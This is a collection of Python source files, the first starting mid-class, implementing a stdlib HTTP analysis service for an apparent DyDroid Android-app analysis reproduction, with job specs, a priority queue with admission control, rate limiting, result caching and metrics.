    def submit(self, payload: Dict[str, object], peer: str = "anonymous") -> JsonResponse:
        with self._lock:
            self.registry.counter("service.submit.requests").inc()
            if self._draining:
                self.registry.counter("service.rejected.draining").inc()
                self.events.emit("job.rejected", level="warn", reason="draining", client=peer)
                return 503, {"error": "service is draining"}, _NO_HEADERS
        try:
            spec = JobSpec.from_payload(payload)
        except SpecError as exc:
            return 400, {"error": str(exc)}, _NO_HEADERS
        if spec.triage == "on" and not self.config.pipeline.triage_model:
            return (
                400,
                {"error": "triage requested but the daemon has no triage model"},
                _NO_HEADERS,
            )
        client = payload.get("client") or peer
        if not isinstance(client, str):
            return 400, {"error": "'client' must be a string"}, _NO_HEADERS
        try:
            priority = int(payload.get("priority", 0))
        except (TypeError, ValueError):
            return 400, {"error": "'priority' must be an integer"}, _NO_HEADERS

        try:
            self.limiter.allow(client)
        except RateLimitedError as exc:
            # A zero-rate bucket reports an infinite wait; clamp before any
            # serialization -- int(inf) raises and JSON has no Infinity.
            retry_after = min(exc.retry_after_s, MAX_RETRY_AFTER_S)
            with self._lock:
                self.registry.counter("service.rejected.rate_limited").inc()
                self.events.emit(
                    "job.rejected", level="warn", reason="rate_limited",
                    client=client, retry_after_s=round(retry_after, 3),
                )
            return (
                429,
                {"error": "rate limited", "retry_after_s": round(retry_after, 3)},
                {"Retry-After": "{:d}".format(max(1, int(retry_after + 0.999)))},
            )

        spec_key = spec.key()
        with self._lock:
            cached = self.cache.lookup_spec(spec_key)
            if cached is not None:
                digest, analysis = cached
                job = self.jobs.create(spec, client, priority)
                job.state = JobState.DONE
                job.digest = digest
                job.cached = True
                job.verdict_source = str(analysis.get("verdict_source", ""))
                job.finished_ts = time.time()
                self.jobs.mark_finished(job)
                self.registry.counter("service.cache.hit").inc()
                self.events.emit(
                    "job.completed", job_id=job.job_id, client=client,
                    cached=True, state=JobState.DONE.value,
                )
                if self.slo is not None:
                    # instant cache answers still count toward the tenant's
                    # window -- they are the latency the tenant experienced.
                    self.slo.observe(client, 0.0, ok=True)
                    self.slo.export_gauges(self.registry)
                return 200, self._submit_body(job, coalesced=False), _NO_HEADERS

            primary_id = self._inflight.get(spec_key)
            if primary_id is not None:
                primary = self.jobs.get(primary_id)
                if primary is not None:
                    primary.coalesced += 1
                    self.registry.counter("service.cache.hit").inc()
                    self.registry.counter("service.coalesced").inc()
                    self.events.emit(
                        "job.coalesced", job_id=primary.job_id, client=client
                    )
                    return 202, self._submit_body(primary, coalesced=True), _NO_HEADERS

            if self.queue.depth() >= self.queue.max_depth:
                retry_after = self._retry_after_locked()
                self.registry.counter("service.rejected.queue_full").inc()
                self.events.emit(
                    "job.rejected", level="warn", reason="queue_full",
                    client=client, queue_depth=self.queue.depth(),
                )
                return (
                    429,
                    {
                        "error": "queue full",
                        "queue_depth": self.queue.depth(),
                        "retry_after_s": retry_after,
                    },
                    {"Retry-After": "{:d}".format(max(1, int(retry_after)))},
                )

            job = self.jobs.create(spec, client, priority)
            self._inflight[spec_key] = job.job_id
            try:
                depth = self.queue.put(job.job_id, priority)
            except QueueClosedError:
                # Drain race: _draining flipped after the check above but
                # before admission.  The daemon will never take this job,
                # so answer 503 (not 429 -- "retry" would be a lie) and
                # roll back the never-admitted job.
                self._inflight.pop(spec_key, None)
                self.jobs.discard(job.job_id)
                self.registry.counter("service.rejected.draining").inc()
                self.events.emit(
                    "job.rejected", level="warn", reason="draining", client=client
                )
                return 503, {"error": "service is draining"}, _NO_HEADERS
            self.registry.counter("service.cache.miss").inc()
            self.registry.gauge("service.queue.depth").set(depth)
            self.events.emit(
                "job.admitted", job_id=job.job_id, client=client,
                priority=priority, queue_depth=depth,
            )
            return 202, self._submit_body(job, coalesced=False), _NO_HEADERS

    @staticmethod
    def _submit_body(job: Job, coalesced: bool) -> Dict[str, object]:
        return {
            "job_id": job.job_id,
            "state": job.state.value,
            "digest": job.digest,
            "cached": job.cached or coalesced or job.state is JobState.DONE,
            "coalesced": coalesced,
        }

    def _retry_after_locked(self) -> float:
        """Estimated seconds until a queue slot frees up."""
        histogram = self.registry.histogram("stage.service.analyze")
        mean_s = histogram.total_s / histogram.count if histogram.count else 1.0
        workers = max(1, self.config.workers)
        estimate = self.queue.depth() * max(mean_s, 0.05) / workers
        return max(1.0, round(estimate, 1))

    # -- execution (scheduler worker thread) -----------------------------------

    def _pipeline_for_thread(self, spec: JobSpec) -> DyDroid:
        # One pipeline per (worker thread, firewall policy, triage
        # override): tenants that submit under different policies or
        # triage settings must not share enforcement/gate config, but
        # everything expensive (DroidNative training, caches) stays
        # thread-resident.
        pipelines = getattr(self._local, "pipelines", None)
        if pipelines is None:
            pipelines = self._local.pipelines = {}
        key = (spec.policy, spec.triage, spec.triage_threshold)
        pipeline = pipelines.get(key)
        if pipeline is None:
            from dataclasses import replace

            config = self.config.pipeline
            if spec.policy and spec.policy != config.firewall_policy:
                config = replace(config, firewall_policy=spec.policy)
            if spec.triage == "off":
                config = replace(config, triage_model="", triage_threshold=0.0)
            elif spec.triage == "on" and spec.triage_threshold:
                config = replace(config, triage_threshold=spec.triage_threshold)
            # Every worker thread borrows the daemon's one store instance
            # (VerdictStore is internally locked), so a verdict computed
            # by any worker -- or any prior daemon -- is reused by all.
            # The daemon's EventLog is thread-safe and shared: firewall
            # enforcement and store publishes land in the same trail as
            # job lifecycle events.
            pipeline = DyDroid(
                config, verdict_store=self.verdict_store, events=self.events
            )
            pipelines[key] = pipeline
        return pipeline

    def execute(self, job_id: str, worker_id: int) -> None:
        """Run one dequeued job to DONE/FAILED; never raises."""
        job = self.jobs.get(job_id)
        if job is None:  # evicted while queued: nothing to report against
            return
        job.state = JobState.RUNNING
        job.started_ts = time.time()
        tracer = Tracer() if self.config.trace else NULL_TRACER
        registry = MetricsRegistry()
        started = time.perf_counter()
        try:
            with tracer.span(
                "service.job", job_id=job.job_id, kind=job.spec.kind, worker=worker_id
            ) as job_span:
                with stage(tracer, registry, "service.build"):
                    record = job.spec.build_record()
                digest = record.apk.sha256()
                if job.spec.policy:
                    # Enforcement outcomes are part of the result: the same
                    # APK bytes under a different policy is a different
                    # content-cache entry.
                    digest = "{}-{}".format(digest, job.spec.policy)
                if job.spec.triage:
                    # Tier-0 short-circuits change what verdicts the result
                    # carries, so triage overrides split the content cache
                    # the same way policies do.
                    digest = "{}-triage-{}".format(digest, job.spec.triage)
                    if job.spec.triage_threshold:
                        digest = "{}-{}".format(digest, job.spec.triage_threshold)
                job.digest = digest
                cached = self.cache.get(digest)
                if cached is not None:
                    # content-level hit: another spec already produced
                    # byte-identical APK bytes.
                    job_span.set(content_cached=True)
                    analysis_dict = cached
                    hit = True
                else:
                    pipeline = self._pipeline_for_thread(job.spec)
                    pipeline.tracer = tracer
                    pipeline.metrics = registry
                    with stage(tracer, registry, "service.analyze"):
                        analysis_dict = pipeline.analyze_app(record).to_dict()
                    hit = False
                job.verdict_source = str(analysis_dict.get("verdict_source", ""))
            elapsed = time.perf_counter() - started
            with self._lock:
                if hit:
                    self.cache.link_spec(job.spec_key, digest)
                    job.cached = True
                    self.registry.counter("service.cache.hit").inc()
                else:
                    self.cache.put(job.spec_key, digest, analysis_dict)
                    self.registry.counter("service.pipeline.runs").inc()
                    if self.journal is not None:
                        self.journal.append_result(
                            spec_key=job.spec_key,
                            digest=digest,
                            package=record.package,
                            analyze_s=elapsed,
                            analysis=analysis_dict,
                        )
                self._finish_locked(job, JobState.DONE, registry, tracer, elapsed)
        except Exception as exc:  # noqa: BLE001 - job failure must not kill worker
            job.error = "{}: {}".format(type(exc).__name__, exc)
            with self._lock:
                self._finish_locked(
                    job, JobState.FAILED, registry, tracer,
                    time.perf_counter() - started,
                )

    def _finish_locked(
        self,
        job: Job,
        state: JobState,
        registry: MetricsRegistry,
        tracer,
        elapsed: float,
    ) -> None:
        self._inflight.pop(job.spec_key, None)
        job.analyze_s = elapsed
        job.state = state
        job.finished_ts = time.time()
        self.jobs.mark_finished(job)
        ok = state is JobState.DONE
        counter = "service.jobs.completed" if ok else "service.jobs.failed"
        self.registry.counter(counter).inc()
        self.registry.gauge("service.queue.depth").set(self.queue.depth())
        self.registry.merge_dict(registry.to_dict())
        self._fold_spans(tracer)
        self.events.emit(
            "job.completed" if ok else "job.failed",
            level="info" if ok else "error",
            job_id=job.job_id, client=job.client, state=state.value,
            elapsed_s=round(elapsed, 6),
            **({} if ok else {"error": job.error}),
        )
        if self.slo is not None:
            self.slo.observe(job.client, elapsed, ok=ok)
            self.slo.export_gauges(self.registry)

    # -- reads (HTTP thread) ---------------------------------------------------

    def job_status(self, job_id: str) -> JsonResponse:
        job = self.jobs.get(job_id)
        if job is None:
            return 404, {"error": "no such job {!r}".format(job_id)}, _NO_HEADERS
        return 200, job.to_dict(), _NO_HEADERS

    def result(self, digest: str) -> JsonResponse:
        analysis = self.cache.get(digest)
        if analysis is None:
            return 404, {"error": "no result for digest {!r}".format(digest)}, _NO_HEADERS
        return 200, {"digest": digest, "analysis": analysis}, _NO_HEADERS

    def stats(self) -> JsonResponse:
        with self._lock:
            counters = {
                name: self.registry.counter_value(name)
                for name in (
                    "service.submit.requests",
                    "service.cache.hit",
                    "service.cache.miss",
                    "service.coalesced",
                    "service.pipeline.runs",
                    "service.jobs.completed",
                    "service.jobs.failed",
                    "service.rejected.queue_full",
                    "service.rejected.rate_limited",
                    "service.rejected.draining",
                    "service.persist.restored",
                )
            }
            body: Dict[str, object] = {
                "uptime_s": round(self.uptime_s(), 3),
                "draining": self._draining,
                "workers": self.config.workers,
                "queue": {
                    "depth": self.queue.depth(),
                    "max_depth": self.queue.max_depth,
                    "inflight": len(self._inflight),
                },
                "jobs": self.jobs.counts(),
                "cache": {
                    "entries": len(self.cache),
                    "spec_keys": self.cache.spec_keys(),
                    "capacity": self.config.cache_capacity,
                },
                "rate_limiter": {
                    "enabled": self.limiter.enabled,
                    "rate_per_s": self.config.rate_per_s,
                    "burst": self.config.rate_burst,
                    "tracked_clients": self.limiter.tracked_clients(),
                },
                "persist": {
                    "path": self.config.persist,
                    "restored": counters["service.persist.restored"],
                },
                "verdict_store": {
                    "path": self.config.verdict_store,
                    "entries": (
                        self.verdict_store.counts()
                        if self.verdict_store is not None
                        else None
                    ),
                },
                "counters": counters,
                "triage": {
                    "model": self.config.pipeline.triage_model or None,
                    "threshold": self.config.pipeline.triage_threshold or None,
                    "summary": triage_summary(self.registry),
                },
                "slo": self.slo.snapshot() if self.slo is not None else None,
                "events": {
                    "emitted": self.events.emitted,
                    "dropped": self.events.dropped,
                    "capacity": self.events.capacity,
                    "sink": self.events.sink,
                    "recent": self.events.to_dicts()[-16:],
                },
            }
        return 200, body, _NO_HEADERS

    def health(self) -> JsonResponse:
        status = "draining" if self.draining else "ok"
        return 200, {"status": status, "uptime_s": round(self.uptime_s(), 3)}, _NO_HEADERS

    def metrics_dict(self) -> JsonResponse:
        with self._lock:
            return 200, self.registry.to_dict(), _NO_HEADERS

    def metrics_prom(self) -> str:
        """The registry in Prometheus text exposition format."""
        with self._lock:
            return to_prometheus(self.registry)

    # -- observability ---------------------------------------------------------

    def observe_request(
        self, method: str, path: str, status: int, duration_s: float, tracer
    ) -> None:
        """Fold one HTTP request's metrics and spans into the service state."""
        with self._lock:
            self.registry.counter("service.http.requests").inc()
            self.registry.counter("service.http.{}xx".format(status // 100)).inc()
            self.registry.histogram("service.http").record(duration_s)
            self._fold_spans(tracer)

    def _fold_spans(self, tracer) -> None:
        """Retain one tracer's spans (lock held by caller)."""
        spans = tracer.to_dicts()
        if spans:
            self._span_sources.append((self._span_seq, spans))
            self._span_seq += 1

    def trace_dicts(self) -> List[Dict[str, object]]:
        """Merged, re-identified spans of the retained jobs/requests."""
        with self._lock:
            return merge_span_lists(list(self._span_sources))

    def counter_value(self, name: str) -> int:
        with self._lock:
            return self.registry.counter_value(name)
