"""Job specifications: what a client asks the service to analyze.

Two spec kinds cover the intake paths DyDroid's crawl had:

- ``corpus`` -- a ``(seed, n_apps, index)`` reference into the seeded
  market.  The daemon rematerializes the app the same way farm workers
  do (:meth:`CorpusGenerator.records_at`), so submissions stay tiny and
  the same reference always denotes the same APK bytes.
- ``apk``    -- an uploaded package, base64 of :meth:`Apk.to_bytes`.
  Store-page metadata is unknown for uploads, so a neutral blueprint is
  synthesized around the manifest package name.

``key()`` is the *submission* identity used for queue-time deduplication
and in-flight coalescing; the *result* identity is always the built
APK's ``sha256()`` (content addressing), computed by the worker.
"""

from __future__ import annotations

import base64
import binascii
import hashlib
import json
from dataclasses import dataclass
from typing import Dict

from repro.android.apk import Apk, ApkFormatError
from repro.corpus.generator import AppBlueprint, AppRecord, CorpusGenerator
from repro.corpus.metadata import AppMetadata

__all__ = ["JobSpec", "SpecError", "MAX_CORPUS_APPS"]

#: upper bound on the corpus size a single submission may reference --
#: admission control for the blueprint pass, not a corpus limitation.
MAX_CORPUS_APPS = 1_000_000


class SpecError(ValueError):
    """The submission payload does not describe a valid job."""


@dataclass(frozen=True)
class JobSpec:
    """One validated, hashable analysis request."""

    kind: str  # "corpus" | "apk"
    seed: int = 0
    n_apps: int = 0
    index: int = -1
    apk_b64: str = ""
    #: per-tenant firewall policy name ("" = the daemon's default config);
    #: part of the submission identity -- the same app analyzed under two
    #: policies is two different results.
    policy: str = ""
    #: per-tenant tier-0 triage override: "" = daemon default, "on" =
    #: require the gate (rejected when the daemon has no model), "off" =
    #: full analyzers for this submission regardless of the daemon model.
    triage: str = ""
    #: per-tenant confidence bar; 0.0 = the daemon's configured/default
    #: threshold.  Only meaningful with ``triage="on"``.
    triage_threshold: float = 0.0

    # -- construction ----------------------------------------------------------

    @classmethod
    def from_payload(cls, payload: Dict[str, object]) -> "JobSpec":
        """Validate a client JSON body into a spec; raises :class:`SpecError`."""
        if not isinstance(payload, dict):
            raise SpecError("submission body must be a JSON object")
        kind = payload.get("kind", "corpus")
        policy = payload.get("policy", "")
        if not isinstance(policy, str):
            raise SpecError("'policy' must be a string")
        if policy:
            from repro.defense.firewall import policy_names

            if policy not in policy_names():
                raise SpecError(
                    "unknown firewall policy {!r} (known: {})".format(
                        policy, ", ".join(policy_names())
                    )
                )
        triage = payload.get("triage", "")
        if triage not in ("", "on", "off"):
            raise SpecError("'triage' must be \"on\" or \"off\"")
        raw_threshold = payload.get("triage_threshold", 0.0)
        try:
            triage_threshold = float(raw_threshold)
        except (TypeError, ValueError):
            raise SpecError("'triage_threshold' must be a number")
        if triage_threshold and triage != "on":
            raise SpecError("'triage_threshold' requires triage: \"on\"")
        if triage_threshold and not 0.5 <= triage_threshold <= 1.0:
            raise SpecError("'triage_threshold' must be in [0.5, 1.0]")
        if kind == "corpus":
            try:
                seed = int(payload["seed"])
                n_apps = int(payload["n_apps"])
                index = int(payload["index"])
            except (KeyError, TypeError, ValueError):
                raise SpecError(
                    "corpus spec needs integer 'seed', 'n_apps' and 'index'"
                )
            if not 0 < n_apps <= MAX_CORPUS_APPS:
                raise SpecError(
                    "n_apps must be in 1..{}".format(MAX_CORPUS_APPS)
                )
            if not 0 <= index < n_apps:
                raise SpecError(
                    "index {} out of range for a corpus of {} apps".format(index, n_apps)
                )
            return cls(
                kind="corpus", seed=seed, n_apps=n_apps, index=index, policy=policy,
                triage=triage, triage_threshold=triage_threshold,
            )
        if kind == "apk":
            raw = payload.get("apk_b64")
            if not isinstance(raw, str) or not raw:
                raise SpecError("apk spec needs a base64 'apk_b64' field")
            try:
                data = base64.b64decode(raw, validate=True)
            except (binascii.Error, ValueError):
                raise SpecError("apk_b64 is not valid base64")
            try:
                Apk.from_bytes(data)
            except ApkFormatError as exc:
                raise SpecError("apk_b64 does not decode to an APK: {}".format(exc))
            return cls(
                kind="apk", apk_b64=raw, policy=policy,
                triage=triage, triage_threshold=triage_threshold,
            )
        raise SpecError("unknown spec kind {!r}".format(kind))

    # -- identity --------------------------------------------------------------

    def key(self) -> str:
        """Stable submission identity (dedup / coalescing key).

        ``policy`` and the triage settings enter the canonical form only
        when set, so keys of plain submissions are byte-identical to those
        of daemons (and journals) that predate the fields.
        """
        if self.kind == "apk":
            # identical bytes submitted under different encodings dedupe.
            raw = b"apk:" + base64.b64decode(self.apk_b64)
            if self.policy:
                raw += b":policy:" + self.policy.encode("utf-8")
            if self.triage:
                raw += b":triage:" + self.triage.encode("utf-8")
            if self.triage_threshold:
                raw += b":triage_threshold:" + repr(self.triage_threshold).encode("utf-8")
        else:
            canonical = {"kind": "corpus", "seed": self.seed,
                         "n_apps": self.n_apps, "index": self.index}
            if self.policy:
                canonical["policy"] = self.policy
            if self.triage:
                canonical["triage"] = self.triage
            if self.triage_threshold:
                canonical["triage_threshold"] = self.triage_threshold
            raw = json.dumps(canonical, sort_keys=True).encode("utf-8")
        return hashlib.sha256(raw).hexdigest()[:16]

    def to_dict(self) -> Dict[str, object]:
        if self.kind == "apk":
            body: Dict[str, object] = {"kind": "apk", "apk_sha256_prefix": self.key()}
        else:
            body = {
                "kind": "corpus",
                "seed": self.seed,
                "n_apps": self.n_apps,
                "index": self.index,
            }
        if self.policy:
            body["policy"] = self.policy
        if self.triage:
            body["triage"] = self.triage
        if self.triage_threshold:
            body["triage_threshold"] = self.triage_threshold
        return body

    # -- materialization (worker side) -----------------------------------------

    def build_record(self) -> AppRecord:
        """Build the :class:`AppRecord` this spec denotes."""
        if self.kind == "corpus":
            generator = CorpusGenerator(seed=self.seed)
            return generator.records_at(self.n_apps, [self.index])[0]
        apk = Apk.from_bytes(base64.b64decode(self.apk_b64))
        package = apk.package
        return AppRecord(
            apk=apk,
            metadata=AppMetadata(
                category="uploaded",
                downloads=0,
                n_ratings=0,
                avg_rating=0.0,
                release_time_ms=0,
            ),
            blueprint=AppBlueprint(index=-1, package=package, category="uploaded"),
        )
