"""The bounded priority job queue with admission control.

Admission is decided at ``put`` time: a full queue raises
:class:`QueueFullError` immediately instead of blocking the HTTP thread,
and carries the ``retry_after_s`` hint the handler turns into a 429 +
``Retry-After``.  Higher ``priority`` dequeues earlier; within one
priority FIFO order is preserved via a monotonic sequence number, so two
equal-priority submissions never reorder.
"""

from __future__ import annotations

import heapq
import threading
from typing import List, Optional, Tuple

__all__ = ["JobQueue", "QueueClosedError", "QueueFullError"]


class QueueFullError(RuntimeError):
    """Admission control rejected the submission (queue at max depth)."""

    def __init__(self, depth: int, retry_after_s: float) -> None:
        super().__init__(
            "job queue full ({} queued); retry in {:.0f}s".format(depth, retry_after_s)
        )
        self.depth = depth
        self.retry_after_s = retry_after_s


class QueueClosedError(RuntimeError):
    """The queue stopped admitting permanently (daemon is draining).

    Distinct from :class:`QueueFullError` on purpose: full means "retry
    soon" (429 + Retry-After), closed means "this daemon will never take
    the job" (503) -- telling a client to retry a dying daemon is a lie.
    """

    def __init__(self) -> None:
        super().__init__("job queue is closed (service draining)")


class JobQueue:
    """Thread-safe bounded max-priority queue of job ids."""

    def __init__(self, max_depth: int) -> None:
        if max_depth < 1:
            raise ValueError("max_depth must be >= 1")
        self.max_depth = max_depth
        self._heap: List[Tuple[int, int, str]] = []
        self._seq = 0
        self._closed = False
        self._condition = threading.Condition()

    # -- producer --------------------------------------------------------------

    def put(self, job_id: str, priority: int = 0, retry_after_s: float = 1.0) -> int:
        """Enqueue; returns the new depth or raises :class:`QueueFullError`."""
        with self._condition:
            if self._closed:
                raise QueueClosedError()
            if len(self._heap) >= self.max_depth:
                raise QueueFullError(len(self._heap), retry_after_s)
            heapq.heappush(self._heap, (-priority, self._seq, job_id))
            self._seq += 1
            self._condition.notify()
            return len(self._heap)

    # -- consumer --------------------------------------------------------------

    def get(self, timeout: Optional[float] = None) -> Optional[str]:
        """Pop the highest-priority job id.

        Returns ``None`` when the wait times out or the queue was closed
        and fully drained -- the worker's signal to exit its loop.
        """
        with self._condition:
            while not self._heap:
                if self._closed:
                    return None
                if not self._condition.wait(timeout=timeout):
                    return None
            _, _, job_id = heapq.heappop(self._heap)
            return job_id

    # -- lifecycle / introspection ---------------------------------------------

    def close(self) -> None:
        """Stop admitting; wake all waiting consumers once drained."""
        with self._condition:
            self._closed = True
            self._condition.notify_all()

    @property
    def closed(self) -> bool:
        with self._condition:
            return self._closed

    def depth(self) -> int:
        with self._condition:
            return len(self._heap)
