"""The HTTP transport: stdlib ``ThreadingHTTPServer`` over the daemon.

Endpoints (all JSON):

- ``POST /v1/submit``            -- submit a job spec (corpus reference or
  base64 APK); 200 cached, 202 queued/coalesced, 400 bad spec, 429
  admission/rate rejection (with ``Retry-After``), 503 draining;
- ``GET /v1/jobs/{id}``          -- job lifecycle record;
- ``GET /v1/results/{digest}``   -- the content-addressed analysis;
- ``GET /v1/stats``              -- queue/cache/jobs operational summary;
- ``GET /healthz``               -- liveness + drain state;
- ``GET /metrics``               -- the shared ``MetricsRegistry`` dump;
  JSON by default, Prometheus text exposition with ``?format=prom`` (or
  an ``Accept:`` header preferring ``text/plain``).

Every request runs inside a :class:`~repro.observe.tracer.Tracer` span
and lands in the service's ``service.http`` histogram and status-class
counters; connection threads come from ``ThreadingHTTPServer``
(``daemon_threads``), so a hung client never blocks drain.
"""

from __future__ import annotations

import json
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from time import perf_counter
from typing import Dict, Optional, Tuple
from urllib.parse import parse_qs, urlsplit

from repro.observe.prom import PROM_CONTENT_TYPE
from repro.observe.tracer import NULL_TRACER, Tracer
from repro.service.daemon import AnalysisService

__all__ = ["JsonRequestHandler", "MAX_BODY_BYTES", "ServiceHTTPServer", "make_server"]

#: reject request bodies past this size (a full APK fits comfortably).
MAX_BODY_BYTES = 32 * 1024 * 1024


class ServiceHTTPServer(ThreadingHTTPServer):
    """ThreadingHTTPServer carrying its :class:`AnalysisService`."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, address, handler, service: AnalysisService) -> None:
        super().__init__(address, handler)
        self.service = service


class JsonRequestHandler(BaseHTTPRequestHandler):
    """Shared JSON-over-HTTP plumbing for repro's stdlib servers.

    The daemon handler below and the network farm coordinator
    (:mod:`repro.farm.netcoord`) both subclass this: quiet logging,
    keep-alive HTTP/1.1, JSON request parsing with a body-size cap, and
    JSON/bytes response writers.  Subclasses implement routing.
    """

    server_version = "repro-service/1"
    protocol_version = "HTTP/1.1"

    def log_message(self, format, *args):  # noqa: A002 - stdlib signature
        pass  # request metrics live in the registry, not on stderr

    def _send(self, status: int, body: Dict[str, object], headers: Dict[str, str]) -> None:
        payload = json.dumps(body, sort_keys=True).encode("utf-8")
        self._send_bytes(status, payload, "application/json", headers)

    def _send_bytes(
        self, status: int, payload: bytes, content_type: str, headers: Dict[str, str]
    ) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(payload)))
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(payload)

    def _read_json(self) -> Tuple[Optional[Dict[str, object]], Optional[str]]:
        try:
            length = int(self.headers.get("Content-Length", "0"))
        except ValueError:
            return None, "bad Content-Length"
        if length <= 0:
            return None, "empty request body"
        if length > MAX_BODY_BYTES:
            return None, "request body too large"
        raw = self.rfile.read(length)
        try:
            payload = json.loads(raw.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError):
            return None, "request body is not valid JSON"
        if not isinstance(payload, dict):
            return None, "request body must be a JSON object"
        return payload, None


class _Handler(JsonRequestHandler):
    # -- plumbing --------------------------------------------------------------

    @property
    def service(self) -> AnalysisService:
        return self.server.service

    # -- dispatch --------------------------------------------------------------

    def do_GET(self) -> None:
        self._dispatch("GET")

    def do_POST(self) -> None:
        self._dispatch("POST")

    def _dispatch(self, method: str) -> None:
        service = self.service
        started = perf_counter()
        tracer = Tracer() if service.config.trace else NULL_TRACER
        url = urlsplit(self.path)
        path = url.path.rstrip("/") or "/"
        query = parse_qs(url.query)
        text: Optional[str] = None
        with tracer.span("http.request", method=method, path=path) as span:
            if method == "GET" and path == "/metrics" and self._wants_prom(query):
                status, text, headers = 200, service.metrics_prom(), {}
                body: Dict[str, object] = {}
            else:
                status, body, headers = self._route(method, path)
            span.set(status=status)
        try:
            if text is not None:
                self._send_bytes(status, text.encode("utf-8"), PROM_CONTENT_TYPE, headers)
            else:
                self._send(status, body, headers)
        except (BrokenPipeError, ConnectionResetError):
            pass  # client went away mid-response; nothing to serve
        service.observe_request(method, path, status, perf_counter() - started, tracer)

    def _wants_prom(self, query: Dict[str, list]) -> bool:
        """Content negotiation for ``/metrics``: query param wins, then Accept."""
        formats = query.get("format")
        if formats:
            return formats[-1] == "prom"
        accept = self.headers.get("Accept", "")
        return "text/plain" in accept and "application/json" not in accept

    def _route(self, method: str, path: str) -> Tuple[int, Dict[str, object], Dict[str, str]]:
        service = self.service
        if method == "POST" and path == "/v1/submit":
            payload, error = self._read_json()
            if payload is None:
                return 400, {"error": error}, {}
            return service.submit(payload, peer=self.client_address[0])
        if method == "GET" and path.startswith("/v1/jobs/"):
            return service.job_status(path[len("/v1/jobs/"):])
        if method == "GET" and path.startswith("/v1/results/"):
            return service.result(path[len("/v1/results/"):])
        if method == "GET" and path == "/v1/stats":
            return service.stats()
        if method == "GET" and path == "/healthz":
            return service.health()
        if method == "GET" and path == "/metrics":
            return service.metrics_dict()
        return 404, {"error": "no route {} {}".format(method, path)}, {}


def make_server(
    service: AnalysisService,
    host: Optional[str] = None,
    port: Optional[int] = None,
) -> ServiceHTTPServer:
    """Bind (but do not start) the HTTP server for ``service``.

    With ``port=0`` the OS picks an ephemeral port -- read it back off
    ``server.server_port``.  Call ``serve_forever()`` to serve and
    ``shutdown()`` (from another thread) to stop.
    """
    address = (
        host if host is not None else service.config.host,
        port if port is not None else service.config.port,
    )
    return ServiceHTTPServer(address, _Handler, service)
