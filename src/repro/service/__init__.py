"""Analysis-as-a-service: the long-running daemon behind ``repro serve``.

The paper ran DyDroid as a continuous intake pipeline over the Play-store
crawl, deduplicating payloads by digest across the whole corpus; related
systems (DynaLog, DySign) frame the same idea as a submit-and-characterize
service with fingerprint-keyed verdict reuse.  This package is that
serving layer for the reproduction -- stdlib-only, like everything else:

- :mod:`repro.service.spec`      -- validated job specs (corpus reference
  or uploaded APK) with stable submission keys;
- :mod:`repro.service.queue`     -- bounded priority queue; a full queue
  rejects at submit time (429 + ``Retry-After``);
- :mod:`repro.service.ratelimit` -- per-client token buckets;
- :mod:`repro.service.cache`     -- content-addressed result cache keyed
  by ``Apk.sha256()`` plus a submission-key index;
- :mod:`repro.service.persist`   -- append-only JSONL journal (modeled on
  :mod:`repro.farm.checkpoint`) so restarts serve prior results;
- :mod:`repro.service.jobs`      -- job lifecycle records and the table
  ``GET /v1/jobs/{id}`` reads;
- :mod:`repro.service.scheduler` -- background worker threads, one
  :class:`~repro.core.pipeline.DyDroid` per thread;
- :mod:`repro.service.daemon`    -- :class:`AnalysisService`: admission,
  three-level dedup (spec / in-flight coalescing / content digest),
  drain-on-SIGTERM, shared :class:`~repro.observe.metrics.MetricsRegistry`;
- :mod:`repro.service.http`      -- ``ThreadingHTTPServer`` transport;
- :mod:`repro.service.slo`       -- per-tenant SLO objectives and rolling
  error budgets behind ``--slo`` and the ``slo.*`` gauges;
- :mod:`repro.service.client`    -- ``http.client`` client behind
  ``repro submit`` / ``repro status``.
"""

from repro.service.cache import ResultCache
from repro.service.client import ServiceClient, ServiceClientError
from repro.service.daemon import AnalysisService, ServiceConfig
from repro.service.http import ServiceHTTPServer, make_server
from repro.service.jobs import Job, JobState, JobTable
from repro.service.persist import ResultJournal, ServicePersistError, pipeline_fingerprint
from repro.service.queue import JobQueue, QueueClosedError, QueueFullError
from repro.service.ratelimit import RateLimitedError, RateLimiter, TokenBucket
from repro.service.scheduler import SchedulerPool
from repro.service.slo import SloError, SloObjectives, SloTracker, parse_slo
from repro.service.spec import JobSpec, SpecError

__all__ = [
    "AnalysisService",
    "Job",
    "JobQueue",
    "JobSpec",
    "JobState",
    "JobTable",
    "QueueClosedError",
    "QueueFullError",
    "RateLimitedError",
    "RateLimiter",
    "ResultCache",
    "ResultJournal",
    "SchedulerPool",
    "ServiceClient",
    "ServiceClientError",
    "ServiceConfig",
    "ServiceHTTPServer",
    "ServicePersistError",
    "SloError",
    "SloObjectives",
    "SloTracker",
    "SpecError",
    "TokenBucket",
    "make_server",
    "parse_slo",
    "pipeline_fingerprint",
]
