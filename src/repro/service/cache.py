"""The content-addressed result cache.

Two thread-safe maps, mirroring how DyDroid deduplicated its 46K-app
corpus by payload digest:

- **content store**: ``Apk.sha256()`` -> serialized :class:`AppAnalysis`.
  This is the ground truth; ``GET /v1/results/{digest}`` serves from it.
  LRU-bounded (reusing :class:`repro.core.pipeline.LruCache`) so a
  long-lived daemon stays bounded in memory.
- **spec index**: submission key (:meth:`JobSpec.key`) -> digest.  Lets
  ``POST /v1/submit`` answer a repeat submission *before* building the
  APK at all.  Entries whose digest was LRU-evicted read as misses.

Distinct specs that assemble byte-identical APKs converge on one content
entry -- the second execution discovers the digest hit after the build
stage and skips analysis.
"""

from __future__ import annotations

import threading
from typing import Dict, List, Optional, Tuple

from repro.core.pipeline import LruCache

__all__ = ["ResultCache"]


class ResultCache:
    """Thread-safe digest-addressed store of serialized analyses."""

    def __init__(self, capacity: int = 65536) -> None:
        self._content: LruCache[str, Dict[str, object]] = LruCache(capacity)
        self._spec_index: Dict[str, str] = {}
        self._lock = threading.RLock()

    # -- lookups ---------------------------------------------------------------

    def lookup_spec(self, spec_key: str) -> Optional[Tuple[str, Dict[str, object]]]:
        """``(digest, analysis)`` if this exact submission is already answered."""
        with self._lock:
            digest = self._spec_index.get(spec_key)
            if digest is None or digest not in self._content:
                return None
            return digest, self._content[digest]

    def get(self, digest: str) -> Optional[Dict[str, object]]:
        with self._lock:
            if digest in self._content:
                return self._content[digest]
            return None

